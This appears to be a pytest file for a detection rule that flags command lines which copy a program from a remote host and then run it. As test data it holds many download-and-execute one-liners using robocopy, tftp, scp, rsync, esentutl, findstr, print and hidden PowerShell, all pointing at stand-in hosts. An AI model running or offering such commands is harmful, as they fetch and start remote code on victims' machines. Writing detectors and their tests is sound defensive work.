"""Copy in, then start (app/detection/staging.py): the act read whatever program copies."""

from __future__ import annotations

import pytest

from app.detection.staging import copies_in_then_runs


@pytest.mark.parametrize(
    "text",
    [
        "robocopy \\\\192.0.2.15\\pub %TEMP% upd.exe & %TEMP%\\upd.exe",
        "findstr /V /L zz \\\\198.51.100.2\\s\\a.exe > %TEMP%\\b.exe & start %TEMP%\\b.exe",
        "print /D:%PUBLIC%\\s.exe \\\\files.drop.test@SSL\\d\\s.exe && %PUBLIC%\\s.exe",
        'cmd /c "esentutl /y \\\\198.51.100.3\\d\\t.exe /d C:\\Users\\Public\\t.exe /o" & call C:\\Users\\Public\\t.exe',
        'powershell -w h -c "Copy-Item \\\\cdn.drop.invalid\\s\\x.ps1 $env:TEMP; & $env:TEMP\\x.ps1"',
        "scp guest@203.0.113.9:/srv/a.bat %TEMP%\\a.bat\n%TEMP%\\a.bat",
        "tftp -i 192.0.2.7 GET r.exe C:\\Users\\Public\\r.exe & start C:\\Users\\Public\\r.exe",
        "msedge --headless --dump-dom https://pages.drop.test/p > %TEMP%\\p.hta && mshta %TEMP%\\p.hta",
        # the copy's destination kept in a variable and started through it
        '$p="$env:TEMP\\x.exe"; Copy-Item \\\\files.drop.test\\s\\x.exe $p; Start-Process $p',
        "$t=$env:TEMP+'\\r.exe'; Copy-Item \\\\198.51.100.9\\s\\q.bin $t; saps $t",
        "set f=%TEMP%\\u.exe& copy \\\\198.51.100.9\\s\\z.dat %f% & start %f%",
        # a Unix program or script has no extension: a shell or its own path starts it
        "scp guest@198.51.100.9:/srv/p /tmp/p && sh /tmp/p",
        "scp -P 2222 guest@files.drop.test:agent /tmp/agent; chmod +x /tmp/agent; /tmp/agent",
        "rsync -az rsync://198.51.100.9/pub/p /tmp/p && /tmp/p",
        # …renamed on the way to an absolute Unix path, and started by that name
        "sftp anon@203.0.113.5:/pub/update.sh /tmp/u.sh && bash /tmp/u.sh",
        "rsync -avz guest@198.51.100.77:/srv/tools/cleaner /var/tmp/.c/x && /var/tmp/.c/x",
        # .NET's copy is a copy
        "$d=\"$env:TEMP\\a.exe\";[IO.File]::Copy('\\\\198.51.100.9\\s\\a.exe',$d,$true);& $d",
    ],
)
def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> None:
    assert copies_in_then_runs(text)


@pytest.mark.parametrize(
    "text",
    [
        # the local network's shares: a single-label host, an internal name, a private address
        "xcopy \\\\deploy01\\pkg\\setup.exe C:\\Temp\\ & C:\\Temp\\setup.exe",
        "copy \\\\fs01.corp.example.com\\pkg\\a.exe C:\\Deploy\\ & C:\\Deploy\\a.exe",
        "copy \\\\192.168.1.20\\install\\a.exe C:\\Deploy\\ & C:\\Deploy\\a.exe",
        # copied but not started, started but not the copied file, a document opened
        "robocopy \\\\192.0.2.15\\pub D:\\mirror /MIR",
        "copy \\\\192.0.2.15\\pub\\a.exe D:\\tools\\ & D:\\tools\\other.exe",
        "copy \\\\files.example.net\\pub\\report.pdf . & start report.pdf",
        # started before it was copied: not this act
        "%TEMP%\\a.exe & copy \\\\192.0.2.15\\pub\\a.exe %TEMP%\\a.exe",
        "tftp -i 192.168.0.1 GET a.exe & a.exe",
        # a file with no extension copied in and only read, or named by a Windows program
        "scp guest@198.51.100.9:/srv/notes /tmp/notes && cat /tmp/notes",
        "sftp guest@198.51.100.9:/srv/u.sh /tmp/u.sh && bash /tmp/other.sh",
        "copy \\\\192.0.2.15\\pub\\README C:\\Temp\\ & start README",
        # a variable that names a local copy, and one started that names another file
        '$p="$env:TEMP\\x.exe"; Copy-Item \\\\fileserver\\s\\x.exe $p; Start-Process $p',
        '$p="$env:TEMP\\x.exe"; $q="$env:TEMP\\y.exe"; Copy-Item \\\\198.51.100.9\\s\\x.exe $p; & $q',
    ],
)
def test_local_copies_documents_and_unrelated_starts_are_not(text: str) -> None:
    assert copies_in_then_runs(text) is None


SHARE = "bitsadmin /transfer j \\\\198.51.100.9\\s\\a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe"
WEB = SHARE.replace("\\\\198.51.100.9\\s\\", "https://198.51.100.9/s/")


def test_a_downloader_is_read_for_a_share_only() -> None:
    # a downloader's web addresses are the download rules' (its words are not looked at for
    # them); a share it copies from is this act's, as for any other program, and a program
    # that is no downloader bringing the same address is read as before
    assert copies_in_then_runs(SHARE)
    assert copies_in_then_runs(WEB) is None
    assert copies_in_then_runs(WEB.replace("bitsadmin", "robocopy"))
